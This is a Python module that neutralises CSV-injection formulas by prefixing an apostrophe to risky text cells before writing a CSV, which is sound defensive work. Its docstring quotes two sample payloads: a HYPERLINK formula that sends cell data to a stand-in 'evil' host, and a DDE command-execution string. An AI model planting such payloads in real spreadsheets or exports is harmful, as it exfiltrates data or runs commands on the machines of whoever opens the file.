"""CSV files a person opens in Excel, Sheets or LibreOffice: no cell is a live formula.

A text cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is a
formula to a spreadsheet: an account id such as ``=HYPERLINK("http://evil/?"&A1,"open")`` or
``-2+3+cmd|' /C calc'!A0`` runs when the investigator opens the case (CSV injection). As OWASP
recommends, such cells get a leading apostrophe, which spreadsheets read as "this is text";
every other cell is written unchanged, and numbers and dates are never touched. The raw
values stay in the run's parquet files and the input data.
"""

from __future__ import annotations

from pathlib import Path

import polars as pl

# OWASP "CSV Injection": = + - @ tab and carriage return start a formula; a line feed is
# added because some importers drop it and read the next character.
FORMULA_START = r"^[=+\-@\t\r\n]"


def neutralise_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """Prefix ``'`` to every text cell that a spreadsheet would read as a formula.

    Examples
    --------
    >>> neutralise_formulas(pl.DataFrame({"id": ["=1+1", "a-1", "@x"], "n": [-1, 2, 3]})).rows()
    [("'=1+1", -1), ('a-1', 2), ("'@x", 3)]
    """
    text = [name for name, dtype in frame.schema.items()
            if dtype == pl.String or isinstance(dtype, (pl.Categorical, pl.Enum))]
    return frame.with_columns(
        pl.when(pl.col(name).cast(pl.String).str.contains(FORMULA_START))
        .then(pl.lit("'") + pl.col(name).cast(pl.String))
        .otherwise(pl.col(name).cast(pl.String))
        .alias(name)
        for name in text
    )


def write_safe_csv(frame: pl.DataFrame, path: str | Path) -> Path:
    """``frame.write_csv(path)`` with formula cells neutralised (:func:`neutralise_formulas`)."""
    neutralise_formulas(frame).write_csv(path)
    return Path(path)


__all__ = ["neutralise_formulas", "write_safe_csv"]
